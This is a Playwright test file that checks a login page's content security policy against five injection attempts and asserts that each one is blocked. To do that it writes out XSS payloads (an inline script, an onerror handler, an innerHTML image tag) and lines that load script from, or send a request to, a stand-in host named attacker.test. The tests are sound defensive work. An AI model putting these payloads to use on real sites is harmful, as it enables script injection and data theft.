import type { Page } from '@playwright/test';
import { expect, test } from '../helpers/test.ts';

/** What somebody does who can put text into a page: each way ends in a call of `attacked()` if nothing stops it. */
const ATTACKS: { name: string; attack: (page: Page) => Promise<unknown>; refused: RegExp }[] = [
  {
    name: 'an inline script',
    attack: (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.append('attacked()');
        document.body.append(script);
      }),
    refused: /^policy: (require-trusted-types-for blocked trusted-types-sink|script-src-elem blocked inline)/,
  },
  {
    name: 'an inline handler',
    attack: (page) =>
      page.evaluate(() => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'attacked()');
      }),
    refused: /^policy: (require-trusted-types-for blocked trusted-types-sink|script-src-attr blocked inline)/,
  },
  {
    name: 'text as markup',
    attack: (page) => page.evaluate(() => (document.body.innerHTML = '<img src="x" onerror="attacked()">')),
    refused: /^policy: require-trusted-types-for blocked trusted-types-sink/,
  },
  {
    name: 'a script of another host',
    attack: (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.setAttribute('src', 'https://attacker.test/script.js');
        document.body.append(script);
      }),
    refused:
      /^policy: (require-trusted-types-for blocked trusted-types-sink|script-src-elem blocked https:\/\/attacker)/,
  },
  {
    name: 'a message to another host',
    attack: (page) => page.evaluate(() => fetch('https://attacker.test/collect').catch(() => undefined)),
    refused: /^policy: connect-src blocked https:\/\/attacker\.test/,
  },
];

test.describe('D: the content security policy', () => {
  for (const { name, attack, refused } of ATTACKS) {
    test(`stops ${name}, and the specs see it`, async ({ page, faults }) => {
      faults.expect(
        /^policy: /,
        /^console: .*(Content Security Policy|Trusted|CSP)/,
        /^failed GET \/(script\.js|collect)/,
      );
      let attacked = false;
      await page.exposeFunction('attacked', () => (attacked = true));
      await page.goto('/login');
      await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
      await attack(page).catch((error: unknown) => expect(String(error)).toMatch(/This document requires 'Trusted/));
      await expect
        .poll(() => faults.all.some((fault) => refused.test(fault)), { message: faults.all.join('\n') })
        .toBe(true);
      // One turn of the page later than whatever was let through.
      await page.evaluate(() => new Promise(requestAnimationFrame));
      expect(attacked).toBe(false);
    });
  }
});
